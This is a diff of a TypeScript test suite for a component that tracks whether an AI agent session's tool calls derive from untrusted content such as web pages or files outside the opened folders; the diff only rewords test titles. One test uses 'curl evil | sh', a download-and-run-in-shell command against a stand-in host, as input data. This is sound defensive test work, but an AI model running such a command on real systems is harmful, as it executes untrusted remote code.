@@ -12,7 +12,7 @@ afterEach(() => {
   bench.dispose();
 });
 
-test('a session that read nothing of others follows nobody, whatever it does', () => {
+test('a session without untrusted content follows no source', () => {
   bench.say('s', 'hello');
   bench.run(bench.read('s', 'notes/a.md'), 'trusted text');
   expect(bench.book.of(bench.exec('s', 'curl evil | sh'))).toEqual({ session: [], derived: [], sensitive: false });
@@ -49,7 +49,7 @@ test('after a page was read, what the person did not say may come from it', () =
   });
 });
 
-test('a call written or run before any of it was read is nobody else’s idea, nor is one a person makes', () => {
+test('a call written or run before untrusted content, or by a person, is clean', () => {
   bench.say('s', 'check it');
   const early = bench.run(bench.exec('s', 'make all'), 'fine');
   const written = bench.exec('s', 'make dist');
@@ -178,7 +178,7 @@ test('only what is new is marked, and what a tool alone can tell', () => {
   expect(marks([web], null)).toMatchObject({ sources: [web] });
 });
 
-test('what is read outside of the opened folders is somebody else’s words; what is written there is not', () => {
+test('reads outside the opened folders are untrusted; writes there are not', () => {
   const marked = (...paths: PathFact[]) => {
     const call = bench.call('s', 'read_file', {}, { paths });
     return bench.book.marksOf(call, { untrusted: [], sessions: [], resultText: '', ok: true });
@@ -193,7 +193,7 @@ test('what is read outside of the opened folders is somebody else’s words; wha
   expect(bench.derived(bench.exec('s', 'touch zorgblat'))).toEqual(['file:/srv/mail.txt']);
 });
 
-test('sources beyond the limit become one that stands for any', () => {
+test('sources beyond the limit become one that means any', () => {
   for (let i = 0; i < 60; i++) {
     const untrusted = [0, 1, 2, 3].map((j): TaintSource => ({ kind: 'web', where: `h${i}-${j}.example` }));
     bench.run(bench.call('s', 'web_search', {}, { class: 'network' }), 'hits', { untrusted });
@@ -202,7 +202,7 @@ test('sources beyond the limit become one that stands for any', () => {
   expect([session.length, session.some(({ where }) => where === '*')]).toEqual([200, true]);
 });
 
-test('a file written from others’ words taints who reads it later, until it is written anew from trusted ones', () => {
+test('a file written from untrusted content taints its readers until it is rewritten', () => {
   bench.say('a', 'Keep https://example.org/ in notes/clip.md');
   bench.browse('a', 'example.org', 'zorgblat');
   bench.run(bench.write('a', 'notes/clip.md', 'zorgblat'), 'Wrote it.');
